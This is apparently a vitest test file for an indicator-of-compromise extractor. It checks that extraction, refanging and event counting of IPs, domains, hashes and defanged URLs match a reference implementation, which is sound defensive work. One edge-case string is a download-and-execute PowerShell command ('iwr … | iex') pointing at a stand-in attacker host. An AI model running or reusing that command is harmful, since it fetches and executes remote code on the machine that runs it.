import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/engine/events';
import { extractIndicators, IndicatorCollector, refang } from '../../../src/engine/ioc';
import { MAX_REMEMBERED_TEXTS } from '../../../src/engine/ioc/collector';
import { referenceExtract } from './reference-extract';

/**
 * The extractor runs each pattern only when the text has what every match of it needs, and the collector remembers
 * the indicators of texts it has seen. Both are optimisations: they must find exactly what running every pattern on
 * every text finds (the round-1 extractor in reference-extract.ts).
 */

/** Texts on the edges of each pre-filter: a character short, a character too many, in every position. */
const EDGE_TEXTS = [
  '', 'a.b', '1.2.3', '1.2.3.4', '1.2.3.4.5', 'a:b', 'a::b', '::1', 'fe80::1%eth0', '10:00:00.123', '2024-01-01 10:00:00.123',
  'evil.com', 'evil.com-x', 'evil.com_', 'evil.com1', 'evil.comx', 'EVIL.COM', 'evil.Com', 'a.b.c.zip', 'x.zip', 'svchost.exe',
  'see evil.example.com.', 'evil.example.com.au', 'c2.evil.io', 'EVIL.DE', 'ns1.host.ru,', 'C:\\Windows\\System32\\ntdll.dll', 'host.xn--p1ai', 'HOST.XN--P1AI',
  'bücher.xn--p1ai', 'a.' + 'b'.repeat(63), 'a.' + 'c'.repeat(64), 'x@evil.com', 'x[@]evil[.]com', 'x(at)evil(dot)com',
  'hxxp://evil.com/a', 'hXXps[://]evil[.]com', 'fxp://files.evil.org', 'http://10.0.0.1:8080/x', 'ftp://[2001:db8::1]/f',
  'd41d8cd98f00b204e9800998ecf8427e', 'd41d8cd98f00b204e9800998ecf8427', 'xd41d8cd98f00b204e9800998ecf8427e',
  'IMPHASH=D41D8CD98F00B204E9800998ECF8427E', 'SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855',
  'da39a3ee5e6b4b0d3255bfef95601890afd80709', '{23F38D93-CEB4-5F8E-9F08-000000000C00}', '0x8000000000000000',
  'evil[.]com', '1.2.3(.)4', 'a {dot} b.com', 'mail me at bob@host.local', '203.0.113.9:443. Then 5.6.7.8.',
  '[System.IO.File]::WriteAllBytes($env.computer, $x)', 'powershell -c iwr http://evil.top/x.ps1 | iex', '::ffff:8.8.4.4',
];

/** Deterministic texts assembled from pieces that each pre-filter looks for, so the filters meet every combination. */
function generatedTexts(count: number): string[] {
  const pieces = ['.', ':', '::', '@', '[.]', '(dot)', '[:]', '//', 'hxxp', 'fxp', 'http://', 'evil', 'com', 'zip', 'exe', 'xn--p1ai',
    '10', '255', '1.2', '0db8', 'abcdef0123456789', 'ABCDEF', '-', '_', ' ', '\\', '/', '(', ')', 'a', 'Z', '9', '%eth0',
    '8.8.8.8', 'evil.com', '.de', 'bob@mail.org', 'x.example.net', 'd41d8cd98f00b204e9800998ecf8427e', '2606:4700::1111'];
  let state = 12345;
  const next = (max: number) => {
    state = (state * 1103515245 + 12345) >>> 0;
    return (state >>> 8) % max;
  };
  return Array.from({ length: count }, () => Array.from({ length: 1 + next(24) }, () => pieces[next(pieces.length)]).join(''));
}

describe('pre-filtered extraction', () => {
  it('finds what every pattern over every text finds, on edge cases', () => {
    for (const text of EDGE_TEXTS) expect(extractIndicators(text), text).toEqual(referenceExtract(text));
    expect(EDGE_TEXTS.filter((text) => referenceExtract(text).length > 0).length).toBeGreaterThan(20);
  });

  it('finds what every pattern over every text finds, on generated texts', () => {
    const texts = generatedTexts(20_000);
    let withIndicators = 0;
    for (const text of texts) {
      const expected = referenceExtract(text);
      expect(extractIndicators(text), text).toEqual(expected);
      if (expected.length) withIndicators++;
    }
    // The generator must reach the patterns, or the comparison proves nothing.
    expect(withIndicators).toBeGreaterThan(2_000);
  });

  it('leaves text without colons or brackets to refang unchanged and refangs the rest', () => {
    expect(refang('C:\\x hxxp://a')).toBe('C:\\x http://a');
    expect(refang('plain text, no brackets')).toBe('plain text, no brackets');
    expect(refang('evil(dot)com')).toBe('evil.com');
  });
});

const event = (id: string, fields: NormalizedEvent['fields'], message = ''): NormalizedEvent => ({
  id, ts: `2024-01-01T00:00:${id.padStart(2, '0')}Z`, source: 'text', kind: 'log', host: 'h', user: '', message, fields, origin: { file: 'f', offset: 0 },
});

describe('remembered texts', () => {
  it('count each event and keep first-seen order when the same texts come again', () => {
    const collector = new IndicatorCollector();
    for (let i = 0; i < 3; i++) collector.add(event(String(i), { a: 'to 8.8.8.8 via evil.example.com', b: 'to 8.8.8.8 via evil.example.com' }, 'from 1.1.1.1'));
    expect(collector.list().map((found) => [found.value, found.count, found.eventIds])).toEqual([
      ['1.1.1.1', 3, ['0', '1', '2']],
      ['8.8.8.8', 3, ['0', '1', '2']],
      ['evil.example.com', 3, ['0', '1', '2']],
    ]);
  });

  it('give the same indicators after the cache has turned over', () => {
    const collector = new IndicatorCollector();
    const first = 'beacon to 203.0.113.7';
    collector.add(event('1', { a: first }));
    for (let i = 0; i < MAX_REMEMBERED_TEXTS * 2 + 10; i++) collector.add(event('2', { a: `host${i}.example.org` }));
    collector.add(event('3', { a: first }));
    const [ip] = collector.list();
    expect(ip).toMatchObject({ value: '203.0.113.7', count: 2, eventIds: ['1', '3'] });
    expect(collector.size).toBe(1 + MAX_REMEMBERED_TEXTS * 2 + 10);
  });
});
